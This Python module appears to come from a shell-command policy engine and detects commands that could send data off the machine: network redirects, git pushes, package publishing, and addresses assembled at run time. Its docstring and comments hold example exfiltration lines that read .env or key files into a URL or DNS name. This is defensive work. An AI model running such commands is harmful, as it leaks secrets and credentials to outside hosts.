"""How what a command holds leaves this machine: a sender, a connection, a push, an address.

An address is told to whoever is asked for it: `git clone https://x/$(cat .env)`, `ping
"$(cat key).x"`.  That holds for any program but one that is known to stay here.  What stands
before the `@` of an address only logs in, if it is one value.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace

from aileron.policy import programs, senders
from aileron.policy.containers import PROGRAMS
from aileron.policy.printed import is_call
from aileron.policy.shape import SHELL_BUILTINS, Shape, Token
from aileron.policy.tables import names
from aileron.policy.usage import usage_of
from aileron.shell.reading import Word

_CONNECTIONS = ("/dev/tcp/", "/dev/udp/")
_HERE = re.compile(r"/dev/(?:tcp|udp)/(?:localhost|127(?:\.\d+){3}|::1|0\.0\.0\.0)/")
_KEEPS = names("add stage commit tag notes update-index hash-object")
# Where words, not files, become a part of what is pushed.
_NAMES_WORK = names("checkout switch branch symbolic-ref update-ref")
PACKS = (("docker", "build"), ("docker", "commit"), ("docker", "buildx"), ("podman", "build"))
PUSHES = (("docker", "push"), ("podman", "push"), ("docker", "buildx"))
PUBLISHES = (
    ("npm", "publish"),
    ("pnpm", "publish"),
    ("yarn", "publish"),
    ("cargo", "publish"),
    ("gem", "push"),
    ("twine", "upload"),
    ("uv", "publish"),
    ("poetry", "publish"),
    ("netlify", "deploy"),
    ("firebase", "deploy"),
    ("vercel", "deploy"),
    ("surge",),
)
# Of git's subcommands, those that speak with the address that they are given.
_TALKS = names("clone fetch pull push ls-remote remote submodule archive request-pull svn subtree")
_STAYS = names("""
    ssh-keygen ssh-add realpath readlink basename dirname diff cmp which stat test jq yq xmllint
    sqlite3 psql mysql mysqldump pg_dump pg_dumpall pg_restore mongodump mongosh mongo redis-cli
    cat tee sed awk grep gawk expr make xargs sudo env time timeout nohup nice watch alembic dbmate
    """)
# An address is a word of its own, or an option's value; a setting (`KEY=https://…`) is none.
_SCHEME = re.compile(r"(?:--?[\w-]+=)?[\"']?([A-Za-z][\w+.-]*)://")
_RUN = re.compile(r"\$\(|`|\$\{?[A-Za-z_@*1-9]")
# `$(cat key).x.example`, `reg.example/$(cat key)`
_HOST_BEHIND = re.compile(r"(?:\)|`|\}|\$\w+)\"?\.[\w-]+(?:\.[\w-]+)*\"?$")
_HOST_BEFORE = re.compile(r"\"?[a-z0-9][\w-]*(?:\.[\w-]+)+(?::\d+)?/[^\s]*(?:\$|`)")
_HEADER = re.compile(r"[\"']?http\.(?:\S+\.)?extraheader=", re.IGNORECASE)
_DATABASE = re.compile(r"postgres(?:ql)?|mysql|mariadb|mongodb(?:\+srv)?|rediss?|amqps?|jdbc")


def sends(shape: Shape) -> bool:
    """Whether what a command reads could leave the machine by it."""
    if senders.of(shape) is not None or programs.sends(shape.command):
        return True
    if is_session(shape):
        return True
    if is_call(shape, "git", "push") or any(is_call(shape, *one) for one in PUSHES + PUBLISHES):
        return True
    return is_connected(shape) or next(told(shape), None) is not None


def is_session(shape: Shape) -> bool:
    return bool(shape.names & {"openssl"}) and any(
        one.value == "s_client" for one in shape.command.words
    )


def is_connected(shape: Shape) -> bool:
    targets = [one.target for one in shape.command.redirects]
    if shape.names & {"tee", "dd", "cp"}:
        targets += shape.command.words[1:]
    given = [(one.value or one.prefix).removeprefix("of=") for one in targets]
    return any(one.startswith(_CONNECTIONS) and not _HERE.match(one) for one in given)


def is_kept(shape: Shape) -> bool:
    """Whether git takes what the command holds into what a push hands over."""
    if "git" not in shape.names:
        return False
    verbs = senders.operands(shape)[:2]
    if verbs[:1] == ["config"]:
        return any(one.startswith("user.") for one in senders.operands(shape, loose=True))
    return bool(set(verbs[:1]) & (_KEEPS | _NAMES_WORK))


def told(shape: Shape) -> Iterator[Word]:
    """The words that are addresses, as far as they are decided at run time."""
    name = shape.name
    if not name or shape.command.function or name in SHELL_BUILTINS or shape.names & _STAYS:
        return
    known = usage_of(shape.command, shape.names)[0] is not None and "git" not in shape.names
    if "git" in shape.names and not set(senders.operands(shape)[:1]) & _TALKS:
        return
    for word in shape.command.words[1:]:
        if word.value is not None or not _RUN.search(word.source):
            continue
        if "git" in shape.names and _HEADER.match(word.source):
            yield word
        scheme = _SCHEME.match(word.source)
        if scheme is not None:
            if scheme[1].lower() != "file" and not _DATABASE.fullmatch(scheme[1]):
                yield word
        elif not known and (_HOST_BEHIND.search(word.source) or _HOST_BEFORE.match(word.source)):
            yield word


def logs_in(word: Word) -> bool:
    """Whether all that is decided at run time of an address stands before its `@`."""
    found = _SCHEME.match(word.source)
    if found is None:
        return False
    depth, at, end = 0, found.end(), -1
    source = word.source
    while at < len(source):
        if source[at] == "(":
            depth += 1
        elif source[at] == ")":
            depth -= 1
        elif source[at] == "@" and depth == 0:
            end = at
        elif source[at] in "/?#" and depth == 0:
            break
        at += 1
    return end >= 0 and _RUN.search(source, end) is None


def as_run(shapes: Sequence[Shape], index: int) -> Shape:
    """A command in a container as what runs there: `docker run curlimages/curl -T x` runs curl."""
    shape = shapes[index]
    if shape.container is None or not shape.command.words or not shape.command.via:
        return shape
    for outer in reversed(shapes[:index]):
        if outer.names & PROGRAMS and outer.command.via == shape.command.via[:-1]:
            break
    else:
        return shape
    words = outer.command.words
    at = len(words) - len(shape.command.words) - 1
    if at < 2 or [one.source for one in words[at + 1 :]] != [
        one.source for one in shape.command.words
    ]:
        return shape
    base = (words[at].value or "").rpartition("/")[2].partition("@")[0].partition(":")[0]
    base = base.removesuffix("-cli")
    known = base in senders.NAMES or any(one.startswith(f"{base} ") for one in senders.SENDERS)
    first = shape.command.words[0].value or ""
    if not base or not (known or first.startswith("-")) or first == base:
        return shape
    if not first.startswith("-") and first in senders.NAMES | {"sh", "bash", "cat", "env"}:
        return shape
    command = replace(shape.command, words=(Word(base, base), *shape.command.words))
    tokens = shape.tokens
    if not first.startswith("-"):
        tokens = (Token("operand", shape.command.words[0], first), *shape.tokens)
    return replace(
        shape, command=command, name=base, base=base, names=frozenset({base}), tokens=tokens
    )
